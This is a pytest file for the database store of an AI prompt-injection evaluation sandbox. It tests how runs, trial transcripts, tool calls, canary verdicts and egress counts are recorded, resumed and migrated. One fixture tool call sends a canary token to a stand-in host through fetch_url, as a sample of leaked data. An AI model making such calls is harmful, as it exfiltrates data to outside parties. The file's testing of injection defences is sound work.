"""The results store on SQLite and on a real PostgreSQL: runs, trials, resume, schema, errors."""

from __future__ import annotations

import hashlib
import json
import os
import threading
import uuid
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import Engine, create_engine, make_url, text
from sqlmodel import Session, col, select

import sandbox.store.store as store_module
from sandbox.backends import ModelProvenance
from sandbox.chat import ChatReply, ChatRequest, Message, Sampling, ToolCall
from sandbox.detectors.base import Verdict
from sandbox.egress import EgressEvent
from sandbox.errors import StoreError
from sandbox.runner import TrialResult, TrialSpec, plan_trials
from sandbox.scenarios import Scenario, ScenarioFile
from sandbox.status import RunStatus
from sandbox.store import RunConfig, RunHandle, Store, TrialSummary, VerdictSummary, open_store
from sandbox.store.tables import (
    SCHEMA_VERSION,
    MessageRow,
    ModelRow,
    RunRow,
    ScenarioRow,
    SchemaRow,
    ToolCallRow,
    TrialRow,
    VerdictRow,
)
from sandbox.tools import ToolOutcome
from tests.helpers import scenario_data
from tests.pg import find_pg_bin, temporary_postgres

FILE_SHA = hashlib.sha256(b"scenario file").hexdigest()
MODEL_SHA = "ab" * 32
SYSTEM = "You are a radiology reporting assistant."
USER = "Draft the report from this dictation:\nLungs: 9 mm nodule in the right upper lobe."
# 20 kB and more of text no single-byte encoding holds: accents, CJK, emoji (one astral, one
# ZWJ sequence with a skin tone), combining marks that must not be normalised, and a newline.
UNICODE = "Ëfféct 结节 🫁 👩🏽‍⚕️ e\u0301 n\u0303 Å\u030a ∑ — «»\n"
LONG_OUTPUT = (UNICODE * (20_000 // len(UNICODE.encode()) + 1))[:20_000]


# ---- backends -------------------------------------------------------------------------------


@pytest.fixture(scope="session")
def postgres_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """One throwaway PostgreSQL server for the whole session; tests get their own database."""
    if find_pg_bin() is None:
        reason = "no PostgreSQL server binaries under /usr/lib/postgresql (apt install postgresql)"
        if os.environ.get("SANDBOX_REQUIRE_POSTGRES") == "1":
            pytest.fail(f"SANDBOX_REQUIRE_POSTGRES=1 but {reason}")
        pytest.skip(reason)
    with temporary_postgres(tmp_path_factory.mktemp("postgres")) as url:
        yield url


def _fresh_database(server_url: str) -> str:
    """Create an empty database on the server and return its URL."""
    name = f"test_{uuid.uuid4().hex[:12]}"
    admin = create_engine(server_url, isolation_level="AUTOCOMMIT")
    try:
        with admin.connect() as connection:
            connection.execute(text(f'CREATE DATABASE "{name}"'))
    finally:
        admin.dispose()
    return make_url(server_url).set(database=name).render_as_string(hide_password=False)


@pytest.fixture(
    params=[
        "sqlite",
        pytest.param("postgres", marks=[pytest.mark.postgres, pytest.mark.slow]),
    ]
)
def db_url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    """An empty results database: a SQLite file, or a fresh database on the test server."""
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'results' / 'sandbox.db'}"
    return _fresh_database(request.getfixturevalue("postgres_server"))


@pytest.fixture
def store(db_url: str) -> Iterator[Store]:
    opened = open_store(db_url)
    yield opened
    opened.engine.dispose()


# ---- builders -------------------------------------------------------------------------------


def make_file() -> ScenarioFile:
    scenario = Scenario.model_validate(scenario_data())
    return ScenarioFile(Path("scenarios/s.yaml"), FILE_SHA, scenario)


def make_model(spec: str = "embedded") -> ModelProvenance:
    return ModelProvenance(
        spec=spec,
        backend="llama-cpp-python",
        backend_version="0.3.36",
        name="m.gguf",
        file_path="/models/m.gguf",
        file_sha256=MODEL_SHA,
        chat_format="gemma",
        sampling=Sampling(temperature=0.0, max_tokens=256, seed=7),
    )


def make_config(key: str = "plan-1", models: int = 1) -> RunConfig:
    return RunConfig(
        key=key,
        files=[make_file()],
        models=[make_model("embedded" if i == 0 else f"gguf:/m{i}.gguf") for i in range(models)],
        repeat=1,
        isolation="process",
        options={"concurrency": 2, "timeout_s": 180.0},
        tool_version="0.1.0",
        tool_commit="abc1234",
    )


def make_specs(models: int = 1) -> dict[tuple[int, str], TrialSpec]:
    """The planned trials keyed by (model index, variant)."""
    plan = plan_trials([make_file()], models, 1, Sampling())
    return {(t.model_index, t.scenario.variant): t for t in plan}


def make_result(
    spec: TrialSpec,
    output: str = "FINDINGS: 9 mm nodule in the right upper lobe.",
    verdicts: list[Verdict] | None = None,
    tool_calls: list[ToolCall] | None = None,
) -> TrialResult:
    request = ChatRequest(
        messages=[Message(role="system", content=SYSTEM), Message(role="user", content=USER)]
    )
    reply = ChatReply(
        content=output,
        tool_calls=tool_calls if tool_calls is not None else [],
        finish_reason="stop",
        prompt_tokens=120,
        completion_tokens=30,
    )
    if verdicts is None:
        verdicts = [
            Verdict("canary_absent", "security", True, evidence="", detail="no canary"),
            Verdict("findings_reported", "utility", True, evidence="9 mm nodule"),
        ]
    outcomes = [ToolOutcome(call, True, f"result of {call.name}") for call in reply.tool_calls]
    return TrialResult(
        spec,
        make_model(),
        "ok",
        datetime.now(UTC),
        1.25,
        request,
        reply,
        verdicts,
        "",
        tool_outcomes=outcomes,
    )


def make_error(spec: TrialSpec, error: str = "model server died during the trial.") -> TrialResult:
    return TrialResult(spec, make_model(), "error", datetime.now(UTC), 0.5, error=error)


def trial_rows(store: Store, run_id: str) -> list[TrialRow]:
    with Session(store.engine) as session:
        return list(session.exec(select(TrialRow).where(TrialRow.run_id == run_id)).all())


def children(store: Store, trial_id: int | None) -> tuple[list[str], list[str], list[str]]:
    """Message roles, tool call names and verdict checks of one trial, in stored order."""
    with Session(store.engine) as session:
        messages = session.exec(
            select(MessageRow).where(MessageRow.trial_id == trial_id).order_by(MessageRow.position)
        ).all()
        calls = session.exec(
            select(ToolCallRow)
            .where(ToolCallRow.trial_id == trial_id)
            .order_by(ToolCallRow.position)
        ).all()
        verdicts = session.exec(
            select(VerdictRow).where(VerdictRow.trial_id == trial_id).order_by(VerdictRow.id)
        ).all()
        return [m.role for m in messages], [c.name for c in calls], [v.check_name for v in verdicts]


def orphans(store: Store) -> int:
    """Child rows whose trial no longer exists."""
    with Session(store.engine) as session:
        trial_ids = set(session.exec(select(TrialRow.id)).all())
        found = 0
        for table in (MessageRow, ToolCallRow, VerdictRow):
            found += sum(row.trial_id not in trial_ids for row in session.exec(select(table)))
        return found


# ---- runs -----------------------------------------------------------------------------------


def test_store_begin_run_records_run_models_and_scenarios(store: Store) -> None:
    handle = store.begin_run(make_config(), resume=False)

    assert not handle.resumed
    with Session(store.engine) as session:
        run = session.get(RunRow, handle.run_id)
        model = session.exec(select(ModelRow).where(ModelRow.run_id == handle.run_id)).one()
        scenario = session.exec(
            select(ScenarioRow).where(ScenarioRow.run_id == handle.run_id)
        ).one()
    assert run is not None
    assert (run.key, run.status, run.isolation, run.repeat) == ("plan-1", "running", "process", 1)
    assert (run.tool_version, run.tool_commit) == ("0.1.0", "abc1234")
    assert json.loads(run.options_json) == {"concurrency": 2, "timeout_s": 180.0}
    assert (model.position, model.spec, model.name) == (0, "embedded", "m.gguf")
    assert (model.backend, model.backend_version) == ("llama-cpp-python", "0.3.36")
    assert (model.file_path, model.file_sha256, model.chat_format) == (
        "/models/m.gguf",
        MODEL_SHA,
        "gemma",
    )
    assert json.loads(model.sampling_json) == {
        "temperature": 0.0,
        "top_p": 1.0,
        "max_tokens": 256,
        "seed": 7,
    }
    expected = make_file().scenario
    assert (scenario.scenario_id, scenario.title) == (expected.id, expected.title)
    assert (scenario.family, scenario.workflow) == ("document-injection", "report-draft")
    assert (scenario.path, scenario.file_sha256) == ("scenarios/s.yaml", FILE_SHA)
    assert scenario.canary == expected.canary_token
    assert handle.model_ids == {0: model.id}
    assert handle.scenario_ids == {expected.id: scenario.id}


def test_store_begin_run_resume_returns_the_same_run(store: Store) -> None:
    first = store.begin_run(make_config(), resume=True)
    first.record(make_result(make_specs()[0, "attacked"]))
    store.finish_run(first.run_id, RunStatus.INTERRUPTED)

    again = store.begin_run(make_config(), resume=True)

    assert not first.resumed
    assert (again.run_id, again.resumed) == (first.run_id, True)
    assert again.completed_keys() == {"m0|test-omit-nodule|attacked|r0"}
    assert again.model_ids == first.model_ids
    assert again.scenario_ids == first.scenario_ids
    with Session(store.engine) as session:
        run = session.get(RunRow, first.run_id)
        assert run is not None and run.status == "running"
        assert len(session.exec(select(ModelRow)).all()) == 1


def test_store_begin_run_without_resume_starts_a_new_run(store: Store) -> None:
    first = store.begin_run(make_config(), resume=True)
    first.record(make_result(make_specs()[0, "attacked"]))

    fresh = store.begin_run(make_config(), resume=False)
    latest = store.begin_run(make_config(), resume=True)
    other_plan = store.begin_run(make_config(key="plan-2"), resume=True)

    assert fresh.run_id != first.run_id and not fresh.resumed
    assert fresh.completed_keys() == set()
    assert fresh.model_ids.keys() == {0} and fresh.model_ids != first.model_ids
    assert (latest.run_id, latest.resumed) == (fresh.run_id, True)
    assert other_plan.run_id not in (first.run_id, fresh.run_id) and not other_plan.resumed


def test_store_finish_run_sets_status(store: Store) -> None:
    handle = store.begin_run(make_config(), resume=False)

    store.finish_run(handle.run_id, RunStatus.INCOMPLETE)

    with Session(store.engine) as session:
        run = session.get(RunRow, handle.run_id)
    assert run is not None
    assert run.status == "incomplete"
    assert run.updated_at >= run.created_at


def test_store_finish_run_unknown_id_raises(store: Store) -> None:
    with pytest.raises(StoreError, match="no run nope"):
        store.finish_run("nope", RunStatus.COMPLETE)


# ---- trials ---------------------------------------------------------------------------------


def test_store_record_stores_trial_transcript_tool_calls_and_verdicts(store: Store) -> None:
    handle = store.begin_run(make_config(), resume=False)
    spec = make_specs()[0, "attacked"]
    calls = [
        ToolCall(name="send_report", arguments='{"a": 1}', call_id="call-1"),
        ToolCall(name="fetch_url", arguments='{"url": "http://x.invalid/?q=CNRY"}'),
    ]
    verdicts = [
        Verdict("canary_absent", "security", False, evidence="…write CNRY-1234…", detail="seen"),
        Verdict("findings_reported", "utility", True, evidence="9 mm nodule", detail="1/1"),
    ]

    handle.record(
        make_result(spec, output="Report. CNRY-1234", verdicts=verdicts, tool_calls=calls)
    )

    [trial] = trial_rows(store, handle.run_id)
    assert (trial.key, trial.variant, trial.repeat, trial.seed) == (spec.key, "attacked", 0, 0)
    assert (trial.status, trial.error, trial.output) == ("ok", "", "Report. CNRY-1234")
    assert (trial.finish_reason, trial.prompt_tokens, trial.completion_tokens) == ("stop", 120, 30)
    assert trial.duration_s == pytest.approx(1.25)
    assert trial.model_id == handle.model_ids[0]
    assert trial.scenario_id == handle.scenario_ids[spec.scenario.id]
    with Session(store.engine) as session:
        messages = session.exec(
            select(MessageRow).where(MessageRow.trial_id == trial.id).order_by(MessageRow.position)
        ).all()
        tool_calls = session.exec(
            select(ToolCallRow)
            .where(ToolCallRow.trial_id == trial.id)
            .order_by(ToolCallRow.position)
        ).all()
        stored = session.exec(
            select(VerdictRow).where(VerdictRow.trial_id == trial.id).order_by(VerdictRow.id)
        ).all()
    assert [(m.position, m.role, m.content) for m in messages] == [
        (0, "system", SYSTEM),
        (1, "user", USER),
        (2, "assistant", "Report. CNRY-1234"),
    ]
    assert [(c.position, c.name, c.arguments, c.call_id) for c in tool_calls] == [
        (0, "send_report", '{"a": 1}', "call-1"),
        (1, "fetch_url", '{"url": "http://x.invalid/?q=CNRY"}', ""),
    ]
    assert [(v.check_name, v.kind, v.passed, v.evidence, v.detail) for v in stored] == [
        ("canary_absent", "security", False, "…write CNRY-1234…", "seen"),
        ("findings_reported", "utility", True, "9 mm nodule", "1/1"),
    ]


def test_store_record_errored_trial_keeps_error_and_partial_transcript(store: Store) -> None:
    handle = store.begin_run(make_config(), resume=False)
    spec = make_specs()[0, "clean"]
    timed_out = make_error(spec, "trial timed out after 180 s\nmodel server restarted.")
    timed_out.request = make_result(spec).request

    handle.record(timed_out)

    [trial] = trial_rows(store, handle.run_id)
    assert (trial.status, trial.variant) == ("error", "clean")
    assert trial.error == "trial timed out after 180 s\nmodel server restarted."
    assert (trial.output, trial.finish_reason, trial.prompt_tokens) == ("", "", 0)
    assert children(store, trial.id) == (["system", "user"], [], [])


def test_store_completed_keys_holds_ok_trials_only(store: Store) -> None:
    handle = store.begin_run(make_config(), resume=False)
    specs = make_specs()

    handle.record(make_result(specs[0, "attacked"]))
    handle.record(make_error(specs[0, "clean"]))

    assert handle.completed_keys() == {"m0|test-omit-nodule|attacked|r0"}
    other = store.begin_run(make_config(key="plan-2"), resume=False)
    assert other.completed_keys() == set()


def test_store_record_same_key_replaces_trial_and_children(store: Store) -> None:
    handle = store.begin_run(make_config(), resume=False)
    specs = make_specs()
    spec = specs[0, "attacked"]
    handle.record(make_result(specs[0, "clean"]))
    handle.record(make_error(spec))
    handle.record(
        make_result(spec, output="first", tool_calls=[ToolCall(name="old", arguments="{}")])
    )

    handle.record(
        make_result(
            spec, output="second", verdicts=[Verdict("canary_absent", "security", False, "x")]
        )
    )

    rows = {row.key: row for row in trial_rows(store, handle.run_id)}
    assert len(trial_rows(store, handle.run_id)) == 2
    assert (rows[spec.key].status, rows[spec.key].output) == ("ok", "second")
    assert children(store, rows[spec.key].id) == (
        ["system", "user", "assistant"],
        [],
        ["canary_absent"],
    )
    clean_key = specs[0, "clean"].key
    assert children(store, rows[clean_key].id) == (
        ["system", "user", "assistant"],
        [],
        ["canary_absent", "findings_reported"],
    )
    assert orphans(store) == 0
    assert handle.completed_keys() == {spec.key, clean_key}


def test_store_record_ok_then_error_drops_key_from_completed(store: Store) -> None:
    handle = store.begin_run(make_config(), resume=False)
    spec = make_specs()[0, "attacked"]
    handle.record(make_result(spec))

    handle.record(make_error(spec))

    [trial] = trial_rows(store, handle.run_id)
    assert trial.status == "error"
    assert children(store, trial.id) == ([], [], [])
    assert orphans(store) == 0
    assert handle.completed_keys() == set()


def test_store_record_round_trips_long_unicode_text(store: Store) -> None:
    handle = store.begin_run(make_config(), resume=False)
    spec = make_specs()[0, "attacked"]
    assert len(LONG_OUTPUT) > 10_000 and "\x00" not in LONG_OUTPUT
    arguments = json.dumps({"report": LONG_OUTPUT}, ensure_ascii=False)
    result = make_result(
        spec,
        output=LONG_OUTPUT,
        verdicts=[Verdict("canary_absent", "security", False, LONG_OUTPUT, UNICODE)],
        tool_calls=[ToolCall(name="send_report", arguments=arguments, call_id="🫁")],
    )
    assert result.request is not None
    result.request.messages[1].content = USER + LONG_OUTPUT

    handle.record(result)

    [trial] = trial_rows(store, handle.run_id)
    assert trial.output == LONG_OUTPUT
    with Session(store.engine) as session:
        messages = session.exec(
            select(MessageRow).where(MessageRow.trial_id == trial.id).order_by(MessageRow.position)
        ).all()
        call = session.exec(select(ToolCallRow).where(ToolCallRow.trial_id == trial.id)).one()
        verdict = session.exec(select(VerdictRow).where(VerdictRow.trial_id == trial.id)).one()
    assert [m.content for m in messages] == [SYSTEM, USER + LONG_OUTPUT, LONG_OUTPUT]
    assert (call.arguments, call.call_id) == (arguments, "🫁")
    assert (verdict.evidence, verdict.detail) == (LONG_OUTPUT, UNICODE)


# ---- summaries ------------------------------------------------------------------------------


def test_store_trial_summaries_lists_trials_with_verdicts(store: Store) -> None:
    handle: RunHandle = store.begin_run(make_config(models=2), resume=False)
    specs = make_specs(models=2)
    handle.record(make_result(specs[0, "attacked"]))
    handle.record(make_error(specs[0, "clean"]))
    handle.record(
        make_result(
            specs[1, "clean"],
            verdicts=[
                Verdict("canary_absent", "security", True),
                Verdict("findings_reported", "utility", False),
            ],
        )
    )
    other = store.begin_run(make_config(key="plan-2"), resume=False)
    other.record(make_result(make_specs()[0, "clean"]))

    summaries = store.trial_summaries(handle.run_id)
    reported = "FINDINGS: 9 mm nodule in the right upper lobe."  # make_result's output

    assert summaries == [
        TrialSummary(
            0,
            "embedded",
            "test-omit-nodule",
            "document-injection",
            "attacked",
            "ok",
            [
                VerdictSummary("canary_absent", "security", True),
                VerdictSummary("findings_reported", "utility", True),
            ],
            carrier="text",
            output=reported,
        ),
        TrialSummary(
            0,
            "embedded",
            "test-omit-nodule",
            "document-injection",
            "clean",
            "error",
            carrier="text",
        ),
        TrialSummary(
            1,
            "gguf:/m1.gguf",
            "test-omit-nodule",
            "document-injection",
            "clean",
            "ok",
            [
                VerdictSummary("canary_absent", "security", True),
                VerdictSummary("findings_reported", "utility", False),
            ],
            carrier="text",
            output=reported,
        ),
    ]
    assert store.trial_summaries("no-such-run") == []


def test_store_summaries_count_egress_per_trial_and_startup_per_model(store: Store) -> None:
    handle: RunHandle = store.begin_run(make_config(models=2), resume=False)
    specs = make_specs(models=2)
    event = EgressEvent(t=1.0, kind="dns", dst="198.51.100.7", port=53, host="x.example")
    handle.record_startup_egress(1, [event, event, event])
    handle.record(replace(make_result(specs[0, "attacked"]), egress=[event, event]))
    handle.record(make_result(specs[0, "clean"]))
    handle.record(
        replace(
            make_result(specs[1, "attacked"]),
            verdicts=[Verdict("refusal", "security", True, label="caution")],
        )
    )

    summaries = store.trial_summaries(handle.run_id)

    assert [s.egress_events for s in summaries] == [2, 0, 0]
    assert summaries[2].verdicts == [VerdictSummary("refusal", "security", True, "caution")]
    assert store.startup_egress(handle.run_id) == {1: 3}


def test_store_migrates_a_version_1_database_keeping_its_runs(store: Store, db_url: str) -> None:
    handle = store.begin_run(make_config(), resume=False)
    handle.record(make_result(make_specs()[0, "attacked"]))
    with Session(store.engine) as session:  # the shape version 1 had
        session.execute(text("ALTER TABLE scenarios DROP COLUMN carrier"))
        session.execute(text("ALTER TABLE scenarios DROP COLUMN payloads_json"))
        session.execute(text("ALTER TABLE verdicts DROP COLUMN label"))
        session.execute(text("UPDATE schema_version SET version = 1"))
        session.commit()
    store.engine.dispose()

    reopened = open_store(db_url)
    try:
        summaries = reopened.trial_summaries(handle.run_id)
        with Session(reopened.engine) as session:
            versions = session.exec(select(SchemaRow.version)).all()
    finally:
        reopened.engine.dispose()
    assert versions == [SCHEMA_VERSION]
    assert [(s.scenario_id, s.carrier, len(s.verdicts)) for s in summaries] == [
        ("test-omit-nodule", "", 2)
    ]


# ---- opening --------------------------------------------------------------------------------


def test_store_open_existing_database_keeps_runs(store: Store, db_url: str) -> None:
    handle = store.begin_run(make_config(), resume=False)
    handle.record(make_result(make_specs()[0, "attacked"]))

    reopened = open_store(db_url)
    try:
        again = reopened.begin_run(make_config(), resume=True)
        completed = again.completed_keys()
        with Session(reopened.engine) as session:
            versions = session.exec(select(SchemaRow.version)).all()
    finally:
        reopened.engine.dispose()
    assert (again.run_id, again.resumed) == (handle.run_id, True)
    assert completed == {"m0|test-omit-nodule|attacked|r0"}
    assert versions == [SCHEMA_VERSION]


def test_store_open_newer_schema_raises(
    store: Store, db_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    with Session(store.engine) as session:
        row = session.exec(select(SchemaRow)).one()
        row.version = SCHEMA_VERSION + 1
        session.add(row)
        session.commit()
    # open_store must dispose its engine when it raises (else a ResourceWarning, an error here).
    engines: list[Engine] = []

    def recording_create_engine(url: str) -> Engine:
        engines.append(create_engine(url))
        return engines[-1]

    monkeypatch.setattr(store_module, "create_engine", recording_create_engine)

    with pytest.raises(StoreError, match=f"schema version {SCHEMA_VERSION + 1}") as caught:
        open_store(db_url)

    assert "Upgrade the tool" in caught.value.hint
    assert [e.pool.checkedout() for e in engines] == [0]


def test_store_open_unknown_dialect_raises_with_hint() -> None:
    with pytest.raises(StoreError, match="cannot open the results database nosuchdb://x") as caught:
        open_store("nosuchdb://x")

    assert "--db" in caught.value.hint
    assert "sqlite:///" in caught.value.hint


def test_store_open_hides_password_in_error(tmp_path: Path) -> None:
    socket_dir = tmp_path / "no-server-here"
    url = f"postgresql+psycopg://sandbox:s3cret-pw@/results?host={socket_dir}"

    with pytest.raises(StoreError) as caught:
        open_store(url)

    assert "postgresql+psycopg://sandbox:***@/results" in caught.value.message
    assert "s3cret-pw" not in str(caught.value)


@pytest.mark.parametrize(
    "url",
    [
        "postgresql+psycopg://sandbox@/results?host=/nowhere&password=s3cret-pw",
        "postgresql+psycopg://sandbox:s3cret-pw@localhost:notaport/results",
    ],
)
def test_store_open_hides_password_in_query_and_bad_port(url: str) -> None:
    with pytest.raises(StoreError) as caught:
        open_store(url)

    assert "s3cret-pw" not in str(caught.value)
    assert "***" in caught.value.message


def test_store_record_shows_nul_as_a_visible_symbol(store: Store) -> None:
    handle = store.begin_run(make_config(), resume=False)
    spec = make_specs()[0, "attacked"]

    handle.record(make_result(spec, output="before\x00after"))

    [trial] = trial_rows(store, handle.run_id)
    assert trial.output == "before\u2400after"


def test_store_open_sqlite_creates_missing_folder(tmp_path: Path) -> None:
    path = tmp_path / "deep" / "er" / "sandbox.db"

    opened = open_store(f"sqlite:///{path}")
    opened.engine.dispose()

    assert path.is_file()


def test_store_trial_rows_only_for_this_run(store: Store) -> None:
    one = store.begin_run(make_config(), resume=False)
    two = store.begin_run(make_config(), resume=False)
    spec = make_specs()[0, "attacked"]

    one.record(make_result(spec, output="one"))
    two.record(make_result(spec, output="two"))

    assert [t.output for t in trial_rows(store, one.run_id)] == ["one"]
    assert [t.output for t in trial_rows(store, two.run_id)] == ["two"]
    with Session(store.engine) as session:
        assert len(session.exec(select(TrialRow).where(col(TrialRow.key) == spec.key)).all()) == 2


def test_shards_opening_a_new_database_at_once_share_one_run(db_url: str) -> None:
    """Four shards create the schema and the run at the same moment: one run, rows once."""
    barrier, run_ids, problems = threading.Barrier(4), [], []

    def shard() -> None:
        barrier.wait()
        try:
            opened = open_store(db_url)
            run_ids.append(opened.begin_run(make_config(models=2), resume=True, shared=True).run_id)
            opened.engine.dispose()
        except Exception as exc:  # noqa: BLE001  (reported below, with the others)
            problems.append(repr(exc))

    threads = [threading.Thread(target=shard) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert problems == []
    assert len(set(run_ids)) == 1 and len(run_ids) == 4
    checked = open_store(db_url)
    with Session(checked.engine) as session:
        assert len(session.exec(select(RunRow)).all()) == 1
        assert len(session.exec(select(ModelRow)).all()) == 2
    checked.engine.dispose()
